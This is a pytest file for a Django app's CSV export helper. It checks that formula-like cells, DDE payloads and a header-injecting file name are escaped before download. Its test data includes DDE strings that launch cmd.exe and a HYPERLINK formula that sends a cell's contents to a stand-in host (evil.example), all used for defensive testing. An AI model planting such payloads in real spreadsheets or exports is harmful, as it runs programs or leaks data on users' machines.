"""CSV downloads cannot carry formulas into a spreadsheet (common.csv_export).

What the helper promises: a text cell that a spreadsheet could read as a formula gets a leading
apostrophe (shown as text, hidden by spreadsheets); so does a cell holding a DDE payload
anywhere; numbers and dates are written as they are; other text is left alone. Then the same
through real downloads a logged-in user makes."""

import csv
import io
import time
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from common.csv_export import csv_response, safe_cell
from tests.factories import CustomerFactory

FORMULA_STARTERS = tuple("=+-@＝＋－＠")

ESCAPED = [
    # A formula at the start of the cell.
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "=WEBSERVICE(CONCAT(CHAR(104),A2))",
    "+1+1",
    "-2+3",
    "-1",
    "-",
    "@SUM(A1)",
    "+44 20 7946 0000",
    # Characters some spreadsheets skip before looking for a formula.
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +SUM(A1:A9)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x00=1+1",
    "\x1b@SUM(A1)",
    # Full-width forms, which some spreadsheets (and input methods) turn into ASCII.
    "＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(A1)",
    " ＝HYPERLINK(A1)",
    # DDE: starts a program in old Excel; escaped wherever it appears.
    "=cmd|' /C calc'!A0",
    "cmd|' /C calc'!A0",
    "Northwind Foods cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "msexcel | '\\..\\..\\Windows\\System32\\cmd.exe /c calc' ! ''",
    '=DDE("cmd";"/C calc";"A0")',
    'Totals dde ("cmd";"/C calc";"A0")',
    # Quotes and line breaks inside a formula stay inside the one escaped cell.
    '="a""b"&CHAR(10)',
    "=1+1\n=2+2",
]

UNCHANGED = [
    "Northwind Foods",
    "",
    "O'Brien & Sons | 'A' team!",
    "a|b",
    "x=1",
    "email@example.com",
    "2024-01-31",
    "−5",  # U+2212 MINUS SIGN: not a formula starter anywhere
    "Revenue up 5% (was -2%)",
    "Growth; on track",
    "Revenue up; -5% expected",  # a blank after the separator: text
    'He said "=1+1" twice',
    "Line one\nline two",
    "Café ＝ good",
]


@pytest.mark.parametrize("value", ESCAPED)
def test_text_a_spreadsheet_could_run_gets_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("Acme\t@SUM(A1)", "Acme\t'@SUM(A1)"),
        (";;-2+3", ";;'-2+3"),
        ("x;＝1+1", "x;'＝1+1"),
        # Read with commas the cell starts with a tab; split on tabs, the next cell starts with =.
        ("\t=1+1", "'\t'=1+1"),
        ("=1;=2", "'=1;'=2"),
    ],
)
def test_a_formula_right_after_a_semicolon_or_tab_gets_an_apostrophe_there(value, escaped):
    assert safe_cell(value) == escaped


@pytest.mark.parametrize("value", UNCHANGED)
def test_ordinary_text_is_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, "-3"),
        (-1.5, "-1.5"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("0.00"), "0.00"),
        (date(2025, 1, 31), "2025-01-31"),
        (datetime(2025, 1, 31, 9, 30), "2025-01-31 09:30:00"),
        (None, ""),
    ],
)
def test_numbers_and_dates_stay_numbers_and_dates(value, written):
    assert safe_cell(value) == written


def test_other_objects_are_judged_by_their_text():
    class Named:
        def __str__(self):
            return "=HYPERLINK(A1)"

    assert safe_cell(Named()) == "'=HYPERLINK(A1)"


def test_a_long_cell_is_checked_in_linear_time():
    """The DDE pattern used to try every position of a long word: 40,000 letters took seven
    seconds, a 2 MB notes field hours of an export worker's CPU."""
    started = time.perf_counter()
    long_texts = [
        "a" * 200_000,
        "a|'" + "b" * 200_000,
        "a" + " " * 200_000 + "|",
        "word " * 40_000 + "cmd|' /C calc'!A0",
    ]
    for text in long_texts:
        safe_cell(text)
    assert time.perf_counter() - started < 2


# ---- the file as a spreadsheet reads it ----------------------------------------------------


def _cells(response, delimiter=","):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def _is_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n\x00\u00a0\u3000").startswith(FORMULA_STARTERS)


def test_every_hostile_value_comes_back_as_one_escaped_cell():
    response = csv_response("hostile.csv", ["value", "n"], [[v, -1] for v in ESCAPED + UNCHANGED])
    rows = _cells(response)
    assert rows[1:] == [[safe_cell(v), "-1"] for v in ESCAPED + UNCHANGED]
    assert [cell for row in rows for cell in row[:1] if _is_formula(cell)] == []


def test_header_cells_are_escaped_too():
    rows = _cells(csv_response("x.csv", ["Name", "=1+1 (criterion)"], []))
    assert rows == [["Name", "'=1+1 (criterion)"]]


@pytest.mark.parametrize("separator", [";", "\t"])
def test_no_formula_appears_when_a_spreadsheet_splits_the_file_on_another_separator(separator):
    """Excel in many European locales splits .csv files on `;`, and import dialogs on tabs: a
    value such as `x;=1+1` must not become a cell `=1+1` there."""
    values = [
        "x;=1+1",
        "Acme;@SUM(A1)",
        "Acme\t=HYPERLINK(A1)",
        "a;b;-2+3",
        ";=1+1",
        "x;＝1+1",
        *(v for v in ESCAPED + UNCHANGED if "\n" not in v and "\r" not in v),
    ]
    response = csv_response("x.csv", ["value"], [["Northwind", v] for v in values])
    cells = [cell for row in _cells(response, delimiter=separator) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTERS)] == []
    # Read the usual way, the only change is the apostrophe in front of the formula.
    assert [row[1] for row in _cells(response)[1:5]] == [
        "x;'=1+1",
        "Acme;'@SUM(A1)",
        "Acme\t'=HYPERLINK(A1)",
        "a;b;'-2+3",
    ]


def test_the_file_name_cannot_break_out_of_the_header():
    response = csv_response('plan "Q1"\r\nSet-Cookie: x=1.csv', ["a"], [])
    assert "\n" not in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment; filename")


# ---- real downloads -----------------------------------------------------------------------


def test_the_customer_export_escapes_a_hostile_customer(client_for, people):
    CustomerFactory(
        reference="+R-1",
        name='=HYPERLINK("http://x")',
        sector="@SUM(A1)",
        notes="Met the CFO;=cmd|' /C calc'!A0",
        annual_revenue=Decimal("1250.50"),
    )
    response = client_for(people.executive).get(reverse("strategy:customer_export"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, row = _cells(response)
    customer = dict(zip(header, row, strict=True))
    assert customer["name"] == '\'=HYPERLINK("http://x")'
    assert customer["reference"] == "'+R-1"
    assert customer["sector"] == "'@SUM(A1)"
    assert customer["notes"] == "'Met the CFO;'=cmd|' /C calc'!A0"
    assert customer["annual_revenue"] == "1250.50"


def test_a_formula_imported_from_a_file_is_stored_as_written_and_exported_escaped(
    client_for, people
):
    client = client_for(people.programme_admin)
    upload = SimpleUploadedFile(
        "customers.csv",
        b'reference,name\nC-1,"=HYPERLINK(""http://x"")"\n',
        content_type="text/csv",
    )
    client.post(reverse("strategy:customer_import"), {"file": upload})
    token = client.session["accounts_customer_import"]["token"]
    client.post(reverse("strategy:customer_import_confirm"), {"token": token})

    header, row = _cells(client.get(reverse("strategy:customer_export")))
    assert dict(zip(header, row, strict=True))["name"] == '\'=HYPERLINK("http://x")'


def test_the_portfolio_health_download_escapes_a_hostile_account_name(client_for, people, account):
    customer = account.customer
    customer.name = '=HYPERLINK("http://x")'
    customer.sector = "-2+3"
    customer.save()
    response = client_for(people.executive).get(reverse("portfolio:health_csv"))
    assert response.status_code == 200
    rows = _cells(response)
    hostile = next(row for row in rows[1:] if "HYPERLINK" in row[0])
    assert hostile[0] == '\'=HYPERLINK("http://x")'
    assert hostile[2] == "'-2+3"


def test_the_crm_exports_escape_hostile_contacts_and_opportunities(client_for, people, account):
    from tests.factories import OpportunityFactory, StakeholderFactory

    StakeholderFactory(key_account=account, name="Ada =HYPERLINK(A1)", title="@SUM(A1)")
    OpportunityFactory(key_account=account, title="-2+3", annual_value=Decimal("5"))
    client = client_for(people.programme_admin)
    response = client.get(reverse("integrations:export", args=["salesforce", "contact"]))
    header, row = _cells(response)
    contact = dict(zip(header, row, strict=True))
    assert (contact["FirstName"], contact["LastName"]) == ("Ada", "'=HYPERLINK(A1)")
    assert contact["Title"] == "'@SUM(A1)"
    response = client.get(reverse("integrations:export", args=["hubspot", "opportunity"]))
    header, row = _cells(response)
    opportunity = dict(zip(header, row, strict=True))
    assert opportunity["Deal Name"] == "'-2+3"
    assert opportunity["Amount"] == "5.00"
